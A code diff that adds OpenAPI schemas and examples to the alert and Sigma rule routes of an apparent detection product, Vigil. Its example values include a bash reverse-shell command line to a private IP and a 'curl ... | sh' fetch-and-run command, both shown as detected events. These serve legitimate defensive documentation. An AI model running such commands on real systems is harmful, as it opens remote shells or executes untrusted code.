@@ -21,6 +21,64 @@ const packName = { type: 'string', minLength: 1, maxLength: 100, pattern: '^[A-Z
 const isoDate = { type: 'string', format: 'date-time' };
 const idParams = { type: 'object', required: ['id'], properties: { id: { type: 'string', minLength: 1, maxLength: 200 } } };
 
+// ---- OpenAPI documentation of the answers (schemas with examples; answers are never reshaped by them) ----
+const exampleTime = '2026-03-01T10:00:00.000Z';
+const exampleHostId = '1f0c3a52-4b1e-4c3b-9a7d-6c1e2b3a4d5f';
+const nullable = (schema: Record<string, unknown>) => ({ ...schema, nullable: true });
+const alertSchema = {
+  type: 'object',
+  required: ['id', 'ruleId', 'ruleTitle', 'level', 'kind', 'tags', 'hostId', 'firstSeen', 'lastSeen', 'count', 'eventIds', 'fields', 'status', 'createdAt', 'updatedAt'],
+  additionalProperties: true,
+  properties: {
+    id: { type: 'string' },
+    ruleId: { type: 'string', description: 'Rule id, or external:<source> for alerts pushed through the inbound API' },
+    ruleTitle: { type: 'string' },
+    level: { type: 'string', enum: [...sigmaLevels] },
+    kind: { type: 'string', enum: ['sigma', 'correlation', 'external'] },
+    tags: { type: 'array', items: { type: 'string' } },
+    hostId: { type: 'string', description: "'' for an external alert about no enrolled host" },
+    processKey: nullable({ type: 'string' }),
+    firstSeen: isoDate,
+    lastSeen: isoDate,
+    count: { type: 'integer' },
+    eventIds: { type: 'array', items: { type: 'string' } },
+    fields: { type: 'array', items: { type: 'object', required: ['field'], properties: { field: { type: 'string' }, value: {} } } },
+    group: nullable({ type: 'object', additionalProperties: true }),
+    status: { type: 'string', enum: [...alertStatuses] },
+    assignee: nullable({ type: 'string' }),
+    createdAt: isoDate,
+    updatedAt: isoDate,
+  },
+};
+const exampleAlert = {
+  id: '9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d', ruleId: 'c2b9a3f0-6d1e-4c8a-9b7f-3e2d1c0b9a8f', ruleTitle: 'Reverse shell via bash /dev/tcp', level: 'high', kind: 'sigma',
+  tags: ['attack.execution'], hostId: exampleHostId, processKey: '4242', firstSeen: exampleTime, lastSeen: exampleTime, count: 1, eventIds: ['5c6d7e8f-1a2b-4c3d-9e0f-112233445566'],
+  fields: [{ field: 'CommandLine', value: 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' }], group: null, status: 'new', assignee: null, createdAt: exampleTime, updatedAt: exampleTime,
+};
+const problemSchema = {
+  type: 'object',
+  required: ['severity', 'code', 'message', 'file', 'line', 'column'],
+  properties: { severity: { type: 'string', enum: ['error', 'warning'] }, code: { type: 'string' }, message: { type: 'string' }, file: { type: 'string' }, line: { type: 'integer' }, column: { type: 'integer' }, rule_id: nullable({ type: 'string' }) },
+};
+const exampleProblem = { severity: 'warning', code: 'unknown_modifier', message: 'modifier foo is not supported: the item is FALSE', file: 'custom/rule.yml', line: 9, column: 7, rule_id: 'c2b9a3f0-6d1e-4c8a-9b7f-3e2d1c0b9a8f' };
+const ruleViewSchema = {
+  type: 'object',
+  required: ['id', 'title', 'kind', 'level', 'tags', 'pack', 'file', 'enabled', 'supported'],
+  additionalProperties: true,
+  properties: {
+    id: { type: 'string' }, title: { type: 'string' }, kind: { type: 'string', enum: ['detection', 'correlation'] }, level: { type: 'string' }, status: nullable({ type: 'string' }),
+    tags: { type: 'array', items: { type: 'string' } }, pack: { type: 'string' }, file: { type: 'string' }, enabled: { type: 'boolean' },
+    logsource: nullable({ type: 'object', additionalProperties: { type: 'string' } }), supported: { type: 'boolean' }, description: nullable({ type: 'string' }),
+  },
+};
+const exampleRule = {
+  id: 'c2b9a3f0-6d1e-4c8a-9b7f-3e2d1c0b9a8f', title: 'Reverse shell via bash /dev/tcp', kind: 'detection', level: 'high', status: 'stable', tags: ['attack.execution'], pack: 'vigil-linux',
+  file: 'process_creation/reverse_shell_bash.yml', enabled: true, logsource: { product: 'linux', category: 'process_creation' }, supported: true, description: 'Bash redirecting a shell to a TCP socket.',
+};
+const exampleRuleText = 'title: Curl piped to shell\nid: 8d1c2b3a-4e5f-4a6b-9c7d-0e1f2a3b4c5d\nstatus: experimental\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  selection:\n    CommandLine|contains: "| sh"\n  condition: selection\nlevel: medium\n';
+const ruleRefs = { type: 'array', items: { type: 'object', required: ['id', 'title'], properties: { id: { type: 'string' }, title: { type: 'string' } } } };
+const deletedSchema = (example: string) => ({ description: 'Deleted', type: 'object', required: ['deleted'], properties: { deleted: { type: 'string' } }, examples: [{ deleted: example }] });
+
 function problemView(problem: LoadProblem) {
   return { severity: problem.severity, code: problem.code, message: problem.message, file: problem.location.file, line: problem.location.line, column: problem.location.column, rule_id: problem.ruleId ?? null };
 }
@@ -42,7 +100,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
       config: { permission: 'alerts:read' },
       schema: {
         tags: ['alerts'],
-        summary: 'List alerts, newest activity first',
+        summary: 'List alerts, newest activity first', description: 'Alerts from detection rules, correlations and third-party platforms (kind external), filtered by host, rule, status, level and time.', response: { 200: { description: 'Alerts', type: 'array', items: alertSchema, examples: [[exampleAlert]] } },
         querystring: {
           type: 'object',
           additionalProperties: false,
@@ -70,9 +128,9 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
     },
   );
 
-  app.get('/api/v1/alerts/summary', { config: { permission: 'alerts:read' }, schema: { tags: ['alerts'], summary: 'Alert counts by level and status' } }, async () => db.alertCounts());
+  app.get('/api/v1/alerts/summary', { config: { permission: 'alerts:read' }, schema: { tags: ['alerts'], summary: 'Alert counts by level and status', description: 'Number of alerts per level and status, for dashboards.', response: { 200: { description: 'Counts', type: 'array', items: { type: 'object', required: ['level', 'status', 'count'], properties: { level: { type: 'string' }, status: { type: 'string' }, count: { type: 'integer' } } }, examples: [[{ level: 'high', status: 'new', count: 3 }]] } } } }, async () => db.alertCounts());
 
-  app.get('/api/v1/alerts/:id', { config: { permission: 'alerts:read' }, schema: { tags: ['alerts'], summary: 'One alert', params: idParams } }, async (request) => {
+  app.get('/api/v1/alerts/:id', { config: { permission: 'alerts:read' }, schema: { tags: ['alerts'], summary: 'One alert', description: 'One alert by id, with its rule, host, matched fields and event ids.', response: { 200: { description: 'The alert', ...alertSchema, examples: [exampleAlert] } }, params: idParams } }, async (request) => {
     const alert = db.getAlert((request.params as { id: string }).id);
     if (!alert) throw new VigilError('not_found', 'no such alert');
     return alert;
@@ -84,9 +142,9 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
       config: { permission: 'alerts:manage' },
       schema: {
         tags: ['alerts'],
-        summary: 'Triage an alert: status and assignee',
+        summary: 'Triage an alert: status and assignee', description: 'Sets the status (new, acknowledged, in_progress, resolved, false_positive) and the assignee of an alert; written to the audit log.', response: { 200: { description: 'The updated alert', ...alertSchema, examples: [{ ...exampleAlert, status: 'acknowledged', assignee: 'analyst1' }] } },
         params: idParams,
-        body: { type: 'object', additionalProperties: false, minProperties: 1, properties: { status: { type: 'string', enum: [...alertStatuses] }, assignee: { type: ['string', 'null'], maxLength: 64 } } },
+        body: { type: 'object', additionalProperties: false, minProperties: 1, properties: { status: { type: 'string', enum: [...alertStatuses] }, assignee: { type: ['string', 'null'], maxLength: 64 } }, examples: [{ status: 'in_progress', assignee: 'alice' }] },
       },
     },
     async (request) => {
@@ -105,7 +163,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
       config: { permission: 'rules:read' },
       schema: {
         tags: ['rules'],
-        summary: 'List loaded rules (detection and correlation)',
+        summary: 'List loaded rules (detection and correlation)', description: 'Loaded rules with pack, file, state and logsource support, filtered by text, pack and enabled state.', response: { 200: { description: 'Rules', type: 'object', required: ['total', 'rules'], properties: { total: { type: 'integer' }, rules: { type: 'array', items: ruleViewSchema } }, examples: [{ total: 1, rules: [exampleRule] }] } },
         querystring: {
           type: 'object',
           additionalProperties: false,
@@ -124,12 +182,12 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
     },
   );
 
-  app.get('/api/v1/rules/load-report', { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'Problems found when the rules were last loaded' } }, async () => {
+  app.get('/api/v1/rules/load-report', { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'Problems found when the rules were last loaded', description: 'Counts of files, rules and correlations of the last load, with every error and warning located by file, line and column.', response: { 200: { description: 'Load report', type: 'object', required: ['files', 'rules', 'correlations', 'errors', 'warnings', 'problems'], additionalProperties: true, properties: { files: { type: 'integer' }, rules: { type: 'integer' }, correlations: { type: 'integer' }, deprecated: { type: 'integer' }, unsupported: { type: 'integer' }, errors: { type: 'integer' }, warnings: { type: 'integer' }, problems: { type: 'array', items: problemSchema } }, examples: [{ files: 40, rules: 38, correlations: 2, deprecated: 0, unsupported: 1, errors: 0, warnings: 1, problems: [exampleProblem] }] } } } }, async () => {
     const report = detection.lastLoad();
     return { ...report, problems: report.problems.map(problemView) };
   });
 
-  app.get('/api/v1/rules/:id', { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'One rule with its source text', params: idParams } }, async (request) => {
+  app.get('/api/v1/rules/:id', { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'One rule with its source text', description: 'One loaded rule by id, with the YAML text of its file.', response: { 200: { description: 'The rule', ...ruleViewSchema, required: [...ruleViewSchema.required, 'text'], properties: { ...ruleViewSchema.properties, text: { type: 'string' } }, examples: [{ ...exampleRule, text: exampleRuleText }] } }, params: idParams } }, async (request) => {
     const rule = detection.rule((request.params as { id: string }).id);
     if (!rule) throw new VigilError('not_found', 'no such rule');
     return { ...rule.view, text: rule.text };
@@ -137,7 +195,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
 
   app.post(
     '/api/v1/rules/validate',
-    { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'Validate rule text without storing it', body: { type: 'object', required: ['text'], additionalProperties: false, properties: { text: ruleText } } } },
+    { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'Validate rule text without storing it', description: 'Compiles Sigma rule text and reports its rules and every problem, without storing anything.', response: { 200: { description: 'Validation result', type: 'object', required: ['valid', 'rules', 'problems'], properties: { valid: { type: 'boolean' }, rules: ruleRefs, problems: { type: 'array', items: problemSchema } }, examples: [{ valid: true, rules: [{ id: '8d1c2b3a-4e5f-4a6b-9c7d-0e1f2a3b4c5d', title: 'Curl piped to shell' }], problems: [] }] } }, body: { type: 'object', required: ['text'], additionalProperties: false, properties: { text: ruleText }, examples: [{ text: exampleRuleText }] } } },
     async (request) => {
       const result = detection.testRule((request.body as { text: string }).text, []);
       return { valid: !result.problems.some((p) => p.severity === 'error') && result.rules.length > 0, rules: result.rules.map((r) => ({ id: r.id, title: r.title })), problems: result.problems.map(problemView) };
@@ -150,8 +208,8 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
       config: { permission: 'rules:read' },
       schema: {
         tags: ['rules'],
-        summary: 'Test rule text against posted sample events',
-        body: { type: 'object', required: ['text', 'events'], additionalProperties: false, properties: { text: ruleText, events: { type: 'array', maxItems: 10000, items: { type: 'object' } } } },
+        summary: 'Test rule text against posted sample events', description: 'Compiles Sigma rule text and evaluates it on the posted events (flat Vigil events); reports the matching events by index with the fields that matched.', response: { 200: { description: 'Matches per rule', type: 'object', required: ['problems', 'rules'], properties: { problems: { type: 'array', items: problemSchema }, rules: { type: 'array', items: { type: 'object', required: ['id', 'title', 'matches'], properties: { id: { type: 'string' }, title: { type: 'string' }, matches: { type: 'array', items: { type: 'object', required: ['index'], properties: { index: { type: 'integer' }, eventId: {}, fields: { type: 'array', items: { type: 'object', additionalProperties: true } } } } } } } } }, examples: [{ problems: [], rules: [{ id: '8d1c2b3a-4e5f-4a6b-9c7d-0e1f2a3b4c5d', title: 'Curl piped to shell', matches: [{ index: 0, eventId: '5c6d7e8f-1a2b-4c3d-9e0f-112233445566', fields: [{ field: 'CommandLine', value: 'curl -s https://x.example | sh' }] }] }] }] } },
+        body: { type: 'object', required: ['text', 'events'], additionalProperties: false, properties: { text: ruleText, events: { type: 'array', maxItems: 10000, items: { type: 'object' } } }, examples: [{ text: exampleRuleText, events: [{ 'event.category': 'process', 'event.id': '5c6d7e8f-1a2b-4c3d-9e0f-112233445566', 'process.command_line': 'curl -s https://x.example | sh' }] }] },
       },
     },
     async (request) => {
@@ -167,8 +225,8 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
       config: { permission: 'rules:manage' },
       schema: {
         tags: ['rules'],
-        summary: 'Add or replace a rule file (refused with located errors when it does not compile)',
-        body: { type: 'object', required: ['text'], additionalProperties: false, properties: { text: ruleText, file: fileName, pack: packName } },
+        summary: 'Add or replace a rule file (refused with located errors when it does not compile)', description: 'Stores a rule file in a pack (default custom) and reloads the rules. Text that does not compile is refused with every error located by line and column. The built-in pack cannot be changed.', response: { 201: { description: 'Stored and loaded', type: 'object', required: ['pack', 'file', 'rules', 'problems', 'loaded'], properties: { pack: { type: 'string' }, file: { type: 'string' }, rules: ruleRefs, problems: { type: 'array', items: problemSchema }, loaded: { type: 'integer', description: 'Rules loaded in total after the reload' } }, examples: [{ pack: 'custom', file: 'curl-pipe-sh.yml', rules: [{ id: '8d1c2b3a-4e5f-4a6b-9c7d-0e1f2a3b4c5d', title: 'Curl piped to shell' }], problems: [], loaded: 39 }] } },
+        body: { type: 'object', required: ['text'], additionalProperties: false, properties: { text: ruleText, file: fileName, pack: packName }, examples: [{ text: exampleRuleText, file: 'curl-pipe-sh.yml', pack: 'custom' }] },
       },
     },
     async (request, reply) => {
@@ -195,7 +253,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
     '/api/v1/rules/:id',
     {
       config: { permission: 'rules:manage' },
-      schema: { tags: ['rules'], summary: 'Enable or disable a rule', params: idParams, body: { type: 'object', required: ['enabled'], additionalProperties: false, properties: { enabled: { type: 'boolean' } } } },
+      schema: { tags: ['rules'], summary: 'Enable or disable a rule', description: 'Enables or disables one rule (kept across restarts and pack updates) and reloads the rules.', response: { 200: { description: 'The rule', ...ruleViewSchema, examples: [{ ...exampleRule, enabled: false }] } }, params: idParams, body: { type: 'object', required: ['enabled'], additionalProperties: false, properties: { enabled: { type: 'boolean' } }, examples: [{ enabled: false }] } },
     },
     async (request) => {
       const { id } = request.params as { id: string };
@@ -208,7 +266,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
     },
   );
 
-  app.delete('/api/v1/rules/:id', { config: { permission: 'rules:manage' }, schema: { tags: ['rules'], summary: 'Delete the rule file holding a rule', params: idParams } }, async (request) => {
+  app.delete('/api/v1/rules/:id', { config: { permission: 'rules:manage' }, schema: { tags: ['rules'], summary: 'Delete the rule file holding a rule', description: 'Deletes the file that holds the rule (with any other rules in it) and reloads. Rules of the built-in pack can only be disabled.', response: { 200: deletedSchema('custom/curl-pipe-sh.yml') }, params: idParams } }, async (request) => {
     const { id } = request.params as { id: string };
     const rule = detection.rule(id);
     if (!rule) throw new VigilError('not_found', 'no such rule');
@@ -220,7 +278,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
   });
 
   // ---- packs ----
-  app.get('/api/v1/rule-packs', { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'Installed rule packs with versions' } }, async () => db.listPacks());
+  app.get('/api/v1/rule-packs', { config: { permission: 'rules:read' }, schema: { tags: ['rules'], summary: 'Installed rule packs with versions', description: 'Rule packs with version, import time and number of files.', response: { 200: { description: 'Packs', type: 'array', items: { type: 'object', required: ['name', 'version', 'description', 'importedAt', 'importedBy', 'files'], properties: { name: { type: 'string' }, version: { type: 'string' }, description: { type: 'string' }, importedAt: isoDate, importedBy: { type: 'string' }, files: { type: 'integer' } } }, examples: [[{ name: 'vigil-linux', version: '3c9a1b2d4e5f', description: "Vigil's own Linux rules (content/rules/linux)", importedAt: exampleTime, importedBy: 'system', files: 40 }]] } } } }, async () => db.listPacks());
 
   app.put(
     '/api/v1/rule-packs/:name',
@@ -229,7 +287,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
       config: { permission: 'rules:manage' },
       schema: {
         tags: ['rules'],
-        summary: 'Install or replace a rule pack; rules that do not compile are reported and skipped, the rest load',
+        summary: 'Install or replace a rule pack; rules that do not compile are reported and skipped, the rest load', description: 'Replaces every file of the pack atomically and reloads. One bad rule never blocks the others: it is reported (first 5000 problems) and skipped.', response: { 200: { description: 'Pack installed', type: 'object', required: ['pack', 'version', 'files', 'rules_loaded', 'errors', 'warnings', 'problems'], properties: { pack: { type: 'string' }, version: { type: 'string' }, files: { type: 'integer' }, rules_loaded: { type: 'integer' }, errors: { type: 'integer' }, warnings: { type: 'integer' }, problems: { type: 'array', items: problemSchema } }, examples: [{ pack: 'sigma-core', version: 'r2026-02-01', files: 2, rules_loaded: 2, errors: 0, warnings: 0, problems: [] }] } },
         params: { type: 'object', required: ['name'], properties: { name: packName } },
         body: {
           type: 'object',
@@ -240,6 +298,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
             description: { type: 'string', maxLength: 1000 },
             files: { type: 'array', maxItems: 20000, items: { type: 'object', required: ['file', 'text'], additionalProperties: false, properties: { file: fileName, text: { type: 'string', maxLength: 1024 * 1024 } } } },
           },
+          examples: [{ version: 'r2026-02-01', description: 'SigmaHQ core Linux rules', files: [{ file: 'curl-pipe-sh.yml', text: exampleRuleText }] }],
         },
       },
     },
@@ -267,7 +326,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
 
   app.delete(
     '/api/v1/rule-packs/:name',
-    { config: { permission: 'rules:manage' }, schema: { tags: ['rules'], summary: 'Remove a rule pack', params: { type: 'object', required: ['name'], properties: { name: packName } } } },
+    { config: { permission: 'rules:manage' }, schema: { tags: ['rules'], summary: 'Remove a rule pack', description: 'Removes a pack with all its files and reloads. The built-in pack cannot be removed.', response: { 200: deletedSchema('sigma-core') }, params: { type: 'object', required: ['name'], properties: { name: packName } } } },
     async (request) => {
       const { name } = request.params as { name: string };
       if (name === BUILTIN_PACK) throw new VigilError('forbidden', `the ${BUILTIN_PACK} pack cannot be removed; disable its rules instead`);
@@ -285,7 +344,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
       config: { permission: 'events:read' },
       schema: {
         tags: ['rules'],
-        summary: 'Run rules (by id, by pack, or posted text) over stored events in a time range',
+        summary: 'Run rules (by id, by pack, or posted text) over stored events in a time range', description: 'Compiles the rules to SQL and runs them over stored events (optionally of some hosts and a time range); returns the matching events, at most limit.', response: { 200: { description: 'Matches', type: 'object', required: ['rules', 'matches', 'problems'], properties: { rules: { type: 'integer' }, matches: { type: 'array', items: { type: 'object', required: ['ruleId', 'ruleTitle', 'eventId', 'hostId', 'time', 'category'], properties: { ruleId: { type: 'string' }, ruleTitle: { type: 'string' }, eventId: { type: 'string' }, hostId: { type: 'string' }, time: { type: 'string' }, category: { type: 'string' } } } }, problems: { type: 'array', items: problemSchema } }, examples: [{ rules: 1, matches: [{ ruleId: '8d1c2b3a-4e5f-4a6b-9c7d-0e1f2a3b4c5d', ruleTitle: 'Curl piped to shell', eventId: '5c6d7e8f-1a2b-4c3d-9e0f-112233445566', hostId: exampleHostId, time: exampleTime, category: 'process' }], problems: [] }] } },
         body: {
           type: 'object',
           additionalProperties: false,
@@ -298,6 +357,7 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
             host_ids: { type: 'array', maxItems: 10000, items: { type: 'string', maxLength: 200 } },
             limit: { type: 'integer', minimum: 1, maximum: 100000, default: 10000 },
           },
+          examples: [{ pack: 'custom', start: '2026-02-22T00:00:00Z', end: '2026-03-01T00:00:00Z', limit: 1000 }],
         },
       },
     },
@@ -318,5 +378,5 @@ export function registerDetectionRoutes(app: FastifyInstance, deps: DetectionRou
     },
   );
 
-  app.get('/api/v1/metrics/detection', { config: { permission: 'alerts:read' }, schema: { tags: ['system'], summary: 'Detection engine counters and alert latency' } }, async () => detection.metrics());
+  app.get('/api/v1/metrics/detection', { config: { permission: 'alerts:read' }, schema: { tags: ['system'], summary: 'Detection engine counters and alert latency', description: 'Rules active, events evaluated, detections, alerts created and grouped, alert latency percentiles and histogram, correlation state and prefilter statistics (also exported at GET /metrics).', response: { 200: { description: 'Detection metrics', type: 'object', required: ['rulesActive', 'eventsEvaluated', 'detections', 'alertsCreated', 'alertsGrouped', 'alertLatencyHistogram'], additionalProperties: true, properties: { rulesActive: { type: 'integer' }, correlationsActive: { type: 'integer' }, eventsEvaluated: { type: 'integer' }, detections: { type: 'integer' }, alertsCreated: { type: 'integer' }, alertsGrouped: { type: 'integer' }, alertLatencyP50Ms: nullable({ type: 'number' }), alertLatencyP99Ms: nullable({ type: 'number' }), alertLatencyHistogram: { type: 'object', required: ['boundsMs', 'counts', 'sumMs', 'count'], properties: { boundsMs: { type: 'array', items: { type: 'number' } }, counts: { type: 'array', items: { type: 'integer' } }, sumMs: { type: 'number' }, count: { type: 'integer' } } }, correlationState: { type: 'integer' }, index: nullable({ type: 'object', additionalProperties: true }) }, examples: [{ rulesActive: 38, correlationsActive: 2, eventsEvaluated: 48000, detections: 5, alertsCreated: 3, alertsGrouped: 2, alertLatencyP50Ms: 0.8, alertLatencyP99Ms: 3.1, alertLatencyHistogram: { boundsMs: [1, 2.5, 5], counts: [2, 0, 1, 0], sumMs: 4.2, count: 3 }, correlationState: 0, index: null }] } } } }, async () => detection.metrics());
 }
